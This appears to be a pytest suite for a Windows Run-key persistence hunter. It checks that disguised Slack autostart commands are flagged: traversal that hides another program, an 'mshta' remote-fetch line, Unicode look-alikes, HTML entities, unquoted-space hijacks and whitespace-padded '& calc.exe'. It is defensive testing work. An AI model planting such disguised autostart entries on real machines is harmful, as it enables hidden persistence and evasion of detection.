"""No one-step change of a known-good entry stays known good, unless Windows runs the very same."""

from __future__ import annotations

from pathlib import Path

import pytest
from hostile.mutations import Entry, entries, standing, worn
from hostile.windows_meaning import same_for_windows

from runkeyhunt.hunt import Hunt

ROW = r"C:\Users\<user>\AppData\Local\slack\slack.exe --startup"
SLACK = r"C:\Users\bob\AppData\Local\slack\slack.exe --process-start-args --startup"
RUN = r"HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Run"


@pytest.fixture(scope="module")
def hunt(app_dir: Path) -> Hunt:
    return Hunt.load(app_dir)


@pytest.fixture(scope="module")
def known(app_dir: Path) -> list[Entry]:
    return entries(app_dir)


def test_every_entry_is_known_good_as_it_is(hunt: Hunt, known: list[Entry]) -> None:
    assert [entry.data for entry in known if standing(hunt, entry, entry.data) != "known_good"] == []


def test_no_mutation_wears_known_good(hunt: Hunt, known: list[Entry]) -> None:
    found, standings = worn(hunt, known, 3_000, seed=15)
    assert found == []
    assert standings["known_good"] > 50


@pytest.mark.parametrize(
    ("data", "same"),
    [
        (r"C:\Users\bob\AppData\Local\slack\slack.exe --startup", True),
        (r'  "C:\USERS\bob\AppData\Local\slack\slack.exe"   "--startup"', True),
        (r"C:\Users\bob\AppData\Local\slack\slack.exe --start", False),
        (r"C:\Users\bob\evil.exe x\..\AppData\Local\slack\slack.exe --startup", False),
        (r"C:\Users\Public\AppData\Local\slack\slack.exe --startup", False),
        ("C:\\Users\\bob\\AppData\\Local\\slac\u212a\\slack.exe --startup", False),
        ("C:\\Users\\bob\\AppData\\Local\\slack\\slack.exe\u00a0--startup", False),
        (r"cmd /c C:\Users\bob\AppData\Local\slack\slack.exe --startup", False),
    ],
)
def test_the_oracle_itself(data: str, same: bool) -> None:
    assert same_for_windows(ROW, data) is same


def judged(hunt: Hunt, data: str, image: str = r"C:\Users\bob\AppData\Local\slack\slack.exe") -> tuple[str, str, str]:
    verdict = hunt.judge(
        {
            "EventCode": "13",
            "EventType": "SetValue",
            "TargetObject": f"{RUN}\\com.squirrel.slack.slack",
            "Details": data,
            "Image": image,
        }
    )
    assert verdict is not None
    return verdict.baseline, verdict.program, "disguised_command" if "disguised_command" in verdict.rules else ""


@pytest.mark.parametrize(
    "data",
    [
        SLACK,
        rf'"{SLACK.split(" ", maxsplit=1)[0]}" --process-start-args "--startup"',
        r"%LOCALAPPDATA%\slack\slack.exe --process-start-args   --startup",
        r"C:\Users\bob\AppData\Local\slack\\SLACK.EXE --process-start-args --startup ",
        r'"C:\Users\Bob Berg\AppData\Local\slack\slack.exe" --process-start-args --startup',
    ],
)
def test_what_windows_takes_for_the_same_is_known_good(hunt: Hunt, data: str) -> None:
    assert judged(hunt, data)[0] == "known_good"


@pytest.mark.parametrize(
    ("data", "program"),
    [
        (r"C:\Users\bob\m.exe y\..\AppData\Local\slack\slack.exe --process-start-args --startup", r"C:\Users\bob\m.exe"),
        (r"C:\Users\bob\AppData\Local\slack\m.exe \..\slack.exe --process-start-args --startup", r"C:\Users\bob\AppData\Local\slack\m.exe"),
        (r"C:\Users\bob\AppData\Local\slack\m y\..\slack.exe --process-start-args --startup", r"C:\Users\bob\AppData\Local\slack\m"),
        (r"mshta http://h.example/a #\..\..\..\..\..\AppData\Local\slack\slack.exe --process-start-args --startup", "mshta"),
        (SLACK.replace("slack.exe", "slac\u212a.exe"), "C:\\Users\\bob\\AppData\\Local\\slack\\slac\u212a.exe"),
        (SLACK.replace("slack.exe ", "\u017flack.exe "), "C:\\Users\\bob\\AppData\\Local\\slack\\\u017flack.exe"),
        (SLACK.replace("slack.exe ", "slack.exe\u3000"), "C:\\Users\\bob\\AppData\\Local\\slack\\slack.exe\u3000--process-start-args"),
        (SLACK.replace("bob", "<user>"), r"C:\Users\<user>\AppData\Local\slack\slack.exe"),
        (SLACK.replace("slack.exe", "sla&#99;k.exe"), r"C:\Users\bob\AppData\Local\slack\slack.exe"),
        (SLACK.replace("slack.exe", "sl&#x61;ck.exe"), r"C:\Users\bob\AppData\Local\slack\slack.exe"),
    ],
)  # fmt: skip
def test_a_disguise_is_named_and_what_runs_is_shown(hunt: Hunt, data: str, program: str) -> None:
    state, shown, rule = judged(hunt, data)
    assert state in ("collision", "unknown")
    assert (shown, rule) == (program, "disguised_command")


@pytest.mark.parametrize(
    "folder",
    [
        r"bob\Local Settings",
        r"bob\AppData\Local\Application Data",
        r"bob\AppData\Local\Application Data\Application Data",
    ],
)
def test_a_blank_in_a_junction_that_is_not_quoted_starts_what_stands_before_it(hunt: Hunt, folder: str) -> None:
    program, arguments = SLACK.replace(r"bob\AppData\Local", folder).split(".exe", maxsplit=1)
    assert judged(hunt, f"{program}.exe{arguments}")[0] == "unknown"
    assert judged(hunt, f'"{program}.exe"{arguments}')[0] == "known_good"


@pytest.mark.parametrize("user", ["Public", "Public.", "PUBLIC~1", "Default.", "All Users.", "Default User", "b;#ob", "b\u2003ob", "Public calc;#"])  # fmt: skip
def test_a_folder_that_is_no_users_is_not_known_good(hunt: Hunt, user: str) -> None:
    assert judged(hunt, SLACK.replace("bob", user))[0] != "known_good"


@pytest.mark.parametrize("behind", [" " * 40_000 + "& calc.exe", " x" * 20_000])
def test_what_stands_behind_the_longest_command_is_never_known_good(hunt: Hunt, behind: str) -> None:
    assert judged(hunt, SLACK + behind)[0] != "known_good"
